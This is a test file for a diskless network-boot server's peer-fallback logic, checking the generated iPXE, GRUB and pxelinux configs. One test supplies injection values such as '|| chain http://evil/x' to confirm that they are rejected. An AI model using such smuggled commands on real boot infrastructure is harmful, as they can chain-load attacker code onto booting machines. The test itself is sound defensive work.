// With shared state, every boot server a node can fall back to is in what it is given: the
// iPXE script asks each file of the next server when one fails, GRUB's config likewise, and
// the kernel command line names the others after diskless.server (rd.diskless.peer=URL, one
// each) for /init. Each peer is named by its address on the asking machine's network; a
// database row that is not a plain address and port never reaches a script.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseConfig } from '../config/load.js';
import { BootTree, bootPeersFor, subnetBaseUrl, subnetSecretsUrl } from './boot-tree.js';
import { renderDiscoveredScript, renderIpxeScript } from './ipxe-script.js';
import { peerBaseUrl } from './urls.js';
import { peerBootAddress } from '../config/subnets.js';
import { ipxeShape } from './testdata/ipxe-model.js';
import { grubShape } from './testdata/grub-model.js';

/** Peers as the servers table lists them: server.address first, then subnets' server_address. */
const B = { addresses: ['10.1.0.2', '10.3.0.2'], bootUrl: 'http://10.1.0.2:8080' };
const C = { addresses: ['10.1.0.3'], bootUrl: 'http://10.1.0.3:8080' };

async function fixture(t: { after(fn: () => Promise<void>): void }, live: () => Array<{ addresses: string[]; bootUrl: string }>) {
  const dir = await mkdtemp(join(tmpdir(), 'dl-peer-servers-'));
  t.after(() => rm(dir, { recursive: true, force: true }));
  await mkdir(join(dir, 'boot'));
  for (const f of ['vmlinuz', 'initrd', 'root.sqfs']) await writeFile(join(dir, 'boot', f), f);
  const cfg = parseConfig(`server:
  address: 10.1.0.1
  http_port: 8080
  tftp_port: 69
dhcp:
  mode: full
  subnets:
    - { network: 10.1.0.0/24, interface: up0, pool: 10.1.0.100-10.1.0.150 }
    - { network: 10.2.0.0/24, pool: 10.2.0.100-10.2.0.150 }
    - { network: 10.3.0.0/24, interface: lab3, pool: 10.3.0.100-10.3.0.150, server_address: 10.3.0.1 }
profiles:
  live: { kernel: boot/vmlinuz, initrd: boot/initrd, cmdline: console=ttyS0, root: { mode: live, image: boot/root.sqfs } }
  net: { kernel: boot/vmlinuz, initrd: boot/initrd, root: { mode: nbd, image: boot/root.sqfs } }
  tree: { kernel: boot/vmlinuz, initrd: boot/initrd, root: { mode: nfs, dir: boot }, loader: pxelinux }
  signed: { kernel: boot/vmlinuz, initrd: boot/initrd, root: { mode: nbd, image: boot/root.sqfs }, loader: grub }
nodes:
  - { mac: "52:54:00:00:00:01", hostname: n1, profile: live }
  - { mac: "52:54:00:00:00:02", hostname: n2, profile: net }
  - { mac: "52:54:00:00:00:03", hostname: n3, profile: tree, address: 10.3.0.33 }
  - { mac: "52:54:00:00:00:04", hostname: n4, profile: signed }
`, join(dir, 'diskless.yaml'));
  const tree = new BootTree(() => cfg, subnetBaseUrl(() => cfg), undefined, {
    tokenFor: async () => 'T0KEN',
    secretsUrl: subnetSecretsUrl(() => cfg),
    peersFor: bootPeersFor(() => cfg, live),
  });
  return { cfg, tree };
}

async function text(tree: BootTree, path: string, peer: string): Promise<string> {
  const f = await tree.resolve(path, peer);
  assert.ok(f, `${path} for ${peer}`);
  return (await f.read(0, f.size)).toString();
}

test('golden: the iPXE script of a live node lists this server, then every live peer, for each file and on the command line', async (t) => {
  const { tree } = await fixture(t, () => [B, C]);
  const script = await text(tree, 'boot/52-54-00-00-00-01.ipxe', '10.1.0.120');
  const args = 'initrd=initrd-0 root=live:http://10.1.0.1:8080/images/live/root.sqfs rd.diskless.sha256=fc3a1193f8dfbc6d4e9d6d6e1fb6ec4bd4b8aa1f6ff37ab2c7b2c1f3e15a0b3e rd.retry=180 diskless.server=http://10.1.0.1:8080 rd.diskless.peer=http://10.1.0.2:8080 rd.diskless.peer=http://10.1.0.3:8080 console=ttyS0 rd.diskless.token=T0KEN diskless.secrets=https://10.1.0.1:443 BOOTIF=01-52-54-00-00-00-01';
  const sha = /rd\.diskless\.sha256=([0-9a-f]{64})/.exec(script)?.[1];
  assert.ok(sha);
  const want = [
    '#!ipxe',
    '# Diskless boot script for n1 (52:54:00:00:00:01), profile live.',
    '# Generated from the Diskless inventory: edit the config, not this script.',
    'set base http://10.1.0.1:8080',
    'set peer1 http://10.1.0.2:8080',
    'set peer2 http://10.1.0.3:8080',
    ':retry',
    'echo Diskless: booting n1 (52:54:00:00:00:01) with profile live',
    ['${base}', '${peer1}', '${peer2}'].map((b) => `kernel ${b}/profiles/live/kernel ${args.replace(/sha256=[0-9a-f]{64}/, `sha256=${sha}`)}`).join(' || ') + ' || goto failed',
    'initrd --name initrd-0 ${base}/profiles/live/initrd-0 || initrd --name initrd-0 ${peer1}/profiles/live/initrd-0 || initrd --name initrd-0 ${peer2}/profiles/live/initrd-0 || goto failed',
    'boot || goto failed',
    ':failed',
    'echo Diskless: boot failed, retrying in 10 seconds',
    'sleep 10',
    'goto retry',
    '',
  ].join('\n');
  assert.equal(script, want);
  // Each alternative is one command to iPXE: three kernel commands joined by ||, nothing more.
  assert.deepEqual(ipxeShape(script).filter((l) => l.startsWith('kernel')), [['kernel', 'kernel', 'kernel', 'goto'].join(' || ')]);
});

test('each peer is named by its address on the asking machine\'s network; one with none there is left out', async (t) => {
  const { tree } = await fixture(t, () => [B, C]);
  // lab3 names its own server address: B has one on 10.3.0.0/24, C has none.
  const lab3 = await text(tree, 'boot/52-54-00-00-00-02.ipxe', '10.3.0.121');
  assert.match(lab3, / root=nbd:10\.3\.0\.1:10809\/net rd\.retry=180 diskless\.server=http:\/\/10\.3\.0\.1:8080 rd\.diskless\.peer=http:\/\/10\.3\.0\.2:8080 /);
  assert.doesNotMatch(lab3, /10\.1\.0\.[23]/);
  assert.match(lab3, /\nset peer1 http:\/\/10\.3\.0\.2:8080\n/);
  // A relayed subnet without its own address boots from server.address: peers on that network.
  const rack = await text(tree, 'boot/52-54-00-00-00-02.ipxe', '10.2.0.121');
  assert.match(rack, / diskless\.server=http:\/\/10\.1\.0\.1:8080 rd\.diskless\.peer=http:\/\/10\.1\.0\.2:8080 rd\.diskless\.peer=http:\/\/10\.1\.0\.3:8080 /);
  // pxelinux cannot retry a file elsewhere, but /init can: the peers are on its APPEND line.
  const pxe = await text(tree, 'pxelinux.cfg/01-52-54-00-00-00-03', '10.3.0.33');
  assert.match(pxe, /\n {2}APPEND root=nfs4:10\.3\.0\.1:\/tree rd\.retry=180 diskless\.server=http:\/\/10\.3\.0\.1:8080 rd\.diskless\.peer=http:\/\/10\.3\.0\.2:8080 /);
});

test('GRUB tries the same files from each peer in turn before its 10 s retry', async (t) => {
  const { tree } = await fixture(t, () => [B, C]);
  const cfg = await text(tree, 'grub/grub.cfg-01-52-54-00-00-00-04', '10.1.0.124');
  const linux = cfg.split('\n').filter((l) => /^\s*if linux /.test(l)).map((l) => /'(\([a-z]+,[0-9.]+\))\/profiles\/signed\/kernel'/.exec(l)?.[1]);
  assert.deepEqual(linux, ['(tftp,10.1.0.1)', '(tftp,10.1.0.2)', '(tftp,10.1.0.3)']);
  assert.match(cfg, /'rd\.diskless\.peer=http:\/\/10\.1\.0\.2:8080' 'rd\.diskless\.peer=http:\/\/10\.1\.0\.3:8080'/);
  assert.deepEqual(grubShape(cfg).filter((c) => c === 'boot').length, 3, 'one boot per server');
});

test('no live peers: the script is the one-server script, with no peer line or argument', async (t) => {
  const { tree } = await fixture(t, () => []);
  const script = await text(tree, 'boot/52-54-00-00-00-01.ipxe', '10.1.0.120');
  assert.doesNotMatch(script, /peer/);
  assert.match(script, /\nkernel \$\{base\}\/profiles\/live\/kernel [^\n|]+ \|\| goto failed\n/);
});

test('a servers row that is not a plain address and port never reaches a script', async (t) => {
  const hostile = [
    { addresses: ['10.1.0.7 || chain http://evil/x'], bootUrl: 'http://10.1.0.7:8080' },
    { addresses: ['10.1.0.8'], bootUrl: 'http://10.1.0.8:8080/${x}' },
    { addresses: ['10.1.0.9'], bootUrl: 'https://10.1.0.9' },
    { addresses: ['10.1.0.10'], bootUrl: 'http://10.1.0.10:99999' },
    { addresses: ['10.1.0.1'], bootUrl: 'http://10.1.0.1:8080' }, // our own address: not a peer
    C,
  ];
  const { tree } = await fixture(t, () => hostile);
  const script = await text(tree, 'boot/52-54-00-00-00-01.ipxe', '10.1.0.120');
  // The kernel line holds the command line once per server it may come from.
  assert.deepEqual([...new Set([...script.matchAll(/rd\.diskless\.peer=(\S+)/g)].map((m) => m[1]))], ['http://10.1.0.3:8080']);
  assert.deepEqual([...script.matchAll(/^set (\S+) (\S+)$/gm)].map((m) => `${m[1]} ${m[2]}`), ['base http://10.1.0.1:8080', 'peer1 http://10.1.0.3:8080']);
  assert.doesNotMatch(script, /evil|10\.1\.0\.(7|8|9|10)\b/);
  assert.equal(peerBaseUrl('http://10.1.0.2', '10.1.0.2'), 'http://10.1.0.2');
  assert.equal(peerBaseUrl('http://10.1.0.2:80/', '10.1.0.5'), 'http://10.1.0.5');
  assert.equal(peerBaseUrl('http://10.1.0.2:8080', '300.1.0.2'), undefined);
  // The renderers refuse one too, as they refuse a hostile base URL.
  const target = { mac: '52:54:00:00:00:01', profile: { name: 'p' }, cmdline: 'quiet', loader: 'ipxe', kernel: 'k', initrds: ['i'] } as unknown as Parameters<typeof renderIpxeScript>[0];
  assert.throws(() => renderIpxeScript(target, 'http://10.1.0.1', undefined, ['http://10.1.0.2 || chain http://evil/x']), /the peer server URL may not contain a space/);
  assert.throws(() => renderDiscoveredScript('52:54:00:00:00:01', 'http://10.1.0.1', ['http://${evil}']), /the peer server URL/);
  assert.match(renderDiscoveredScript('52:54:00:00:00:01', 'http://10.1.0.1', ['http://10.1.0.2']), /\nchain --replace --autofree \$\{base\}\/boot\/52-54-00-00-00-01\.ipxe \|\| chain --replace --autofree \$\{peer1\}\/boot\/52-54-00-00-00-01\.ipxe \|\| goto wait\n/);
});

test('peerBootAddress: the peer\'s address on the network of ours for the machine', async (t) => {
  const { cfg } = await fixture(t, () => []);
  assert.equal(peerBootAddress(cfg, '10.3.0.50', ['10.1.0.2', '10.3.0.2']), '10.3.0.2');
  assert.equal(peerBootAddress(cfg, '10.1.0.50', ['10.1.0.2', '10.3.0.2']), '10.1.0.2');
  assert.equal(peerBootAddress(cfg, '10.2.0.50', ['10.3.0.2', '10.1.0.2']), '10.1.0.2', 'relayed: the network of server.address');
  assert.equal(peerBootAddress(cfg, '10.3.0.50', ['10.1.0.3']), undefined, 'no address on lab3');
  assert.equal(peerBootAddress(cfg, '192.168.9.9', ['10.1.0.3']), '10.1.0.3', 'outside every subnet: like ours, server.address\'s network');
});
